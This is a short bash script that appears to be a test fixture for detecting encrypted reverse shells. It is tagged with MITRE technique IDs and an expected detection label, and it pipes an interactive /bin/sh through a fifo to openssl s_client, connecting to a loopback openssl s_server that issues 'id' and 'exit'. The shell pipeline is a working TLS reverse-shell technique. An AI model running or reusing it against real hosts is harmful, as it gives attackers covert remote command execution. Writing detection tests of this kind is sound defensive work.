#!/bin/bash
# A reverse shell inside TLS: sh -i wired through a fifo to openssl s_client, talking to an openssl s_server on loopback that sends it two commands.
# technique: T1059.004 T1573.002
# expect: openssl-encrypted-shell
set -eu
cd "$TPY_WORK"
port=$((20000 + ($$ + 13) % 20000))
openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -subj /CN=c2 -days 1 2> /dev/null
(printf 'id\nexit\n'; sleep 4) | timeout 10 openssl s_server -quiet -key key.pem -cert cert.pem -accept "127.0.0.1:$port" > server.out 2>&1 &
sleep 1
mkfifo pipe
timeout 8 bash -c "/bin/sh -i < pipe 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$port > pipe 2> /dev/null" || true
wait || true
grep -q uid= server.out
